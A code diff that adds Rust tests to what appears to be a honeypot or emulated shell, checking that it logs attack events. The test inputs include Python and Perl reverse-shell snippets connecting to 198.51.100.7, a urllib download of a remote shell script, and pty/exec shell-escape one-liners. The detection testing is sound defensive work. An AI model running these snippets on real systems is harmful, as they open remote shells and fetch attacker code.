@@ -160,3 +160,33 @@ fn a_new_password_is_told_of() {
     assert_eq!((told.get("username"), told.get("password")), ("root", "k3ep-out"));
     assert_eq!(told.get("program"), "chpasswd");
 }
+
+/// Events of one program that is given a text.
+fn told(program: &str, code: &str) -> Vec<testing::Seen> {
+    let bench = Bench::new(5);
+    bench.words("root", program, code.as_bytes());
+    testing::events(&bench.host)
+}
+
+#[test]
+fn where_scripts_go_is_told_of() {
+    let events = told("python3", "import socket\ns=socket.socket()\ns.connect((\"198.51.100.7\", 4444))\n");
+    let seen = events.iter().find(|event| event.kind == "exploit_attempt").unwrap();
+    assert_eq!((seen.get("technique"), seen.get("detail")), ("reverse_shell", "198.51.100.7:4444"));
+    let events =
+        told("python3", "import urllib.request\nurllib.request.urlopen('http://198.51.100.7/x.sh')\n");
+    let seen = events.iter().find(|event| event.kind == "download_attempt").unwrap();
+    assert_eq!(seen.get("path"), "http://198.51.100.7/x.sh");
+    let events = told("perl", "$c=new IO::Socket::INET(PeerAddr,\"198.51.100.7:443\");");
+    let seen = events.iter().find(|event| event.kind == "exploit_attempt").unwrap();
+    assert_eq!(seen.get("detail"), "198.51.100.7:443");
+}
+
+#[test]
+fn python_gives_a_shell() {
+    let bench = Bench::new(6);
+    let got = bench.words("root", "python3 -c __import__('pty').spawn('/bin/sh')", b"echo $((40+2))\n");
+    assert_eq!((got.out.as_str(), got.status), ("42\n", 0), "{got:?}");
+    let got = bench.words("root", "perl -e exec(\"/bin/sh\")", b"echo $((40+2))\n");
+    assert_eq!(got.out, "42\n", "{got:?}");
+}
